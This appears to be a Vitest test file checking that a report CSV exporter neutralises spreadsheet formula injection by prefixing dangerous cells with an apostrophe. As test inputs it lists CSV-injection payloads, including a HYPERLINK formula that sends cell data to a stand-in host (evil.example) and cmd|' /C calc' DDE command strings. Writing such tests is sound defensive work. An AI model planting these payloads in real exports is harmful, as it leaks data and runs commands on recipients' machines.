/** CSV exports never hand a spreadsheet a formula from data: text cells starting with = + - @ tab CR get a leading '. */
import { describe, expect, it } from 'vitest';
import { renderCsv } from '../../src/reports/render.js';
import type { Report } from '../../src/reports/types.js';

function csvRows(report: Report): string[] {
  return renderCsv(report)
    .replace(/^\uFEFF/, '')
    .trimEnd()
    .split('\r\n');
}

describe('CSV injection', () => {
  it('quotes every text cell a spreadsheet would run, wherever it comes from', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?d="&A1,"Подробнее")',
      '@SUM(1+1)*cmd|" /C calc"!A0',
      '+7 (4722) 33-44-55',
      '-2+3+cmd|" /C calc"!A0',
      '\t=1+1',
      '\r=1+1',
    ];
    const report = {
      title: 'Конкуренты',
      sections: [
        {
          columns: [
            { key: 'note', header: 'Комментарий' },
            { key: 'fall', header: 'Изменение', type: 'number' },
          ],
          rows: hostile.map((note) => ({ note, fall: -3 })),
        },
      ],
    } as unknown as Report;
    const [header, ...rows] = csvRows(report);
    expect(header).toBe('Комментарий,Изменение');
    expect(rows).toEqual([
      `"'=HYPERLINK(""http://evil.example/?d=""&A1,""Подробнее"")",-3`,
      `"'@SUM(1+1)*cmd|"" /C calc""!A0",-3`,
      `'+7 (4722) 33-44-55,-3`,
      `"'-2+3+cmd|"" /C calc""!A0",-3`,
      `'\t=1+1,-3`,
      `"'\r=1+1",-3`,
    ]);
  });

  it('writes numbers, harmless text and dates as they are; a "-3" typed as text is quoted', () => {
    const report = {
      title: 'x',
      sections: [
        {
          columns: [
            { key: 'a', header: 'Текст' },
            { key: 'n', header: 'Число', type: 'int' },
          ],
          rows: [
            { a: 'ООО «Ромашка» = партнёр', n: -15 },
            { a: '-3', n: 0 },
            { a: 'a@b — почта', n: 2.5 },
          ],
        },
      ],
    } as unknown as Report;
    expect(csvRows(report).slice(1)).toEqual(['ООО «Ромашка» = партнёр,-15', "'-3,0", 'a@b — почта,2.5']);
  });

  it('quotes a section title built from data too', () => {
    const report = {
      title: 'x',
      sections: [
        { title: '=cmd()', columns: [{ key: 'a', header: 'A' }], rows: [] },
        { title: 'Итого', columns: [{ key: 'a', header: 'A' }], rows: [] },
      ],
    } as unknown as Report;
    expect(csvRows(report)[0]).toBe("'=cmd()");
  });
});
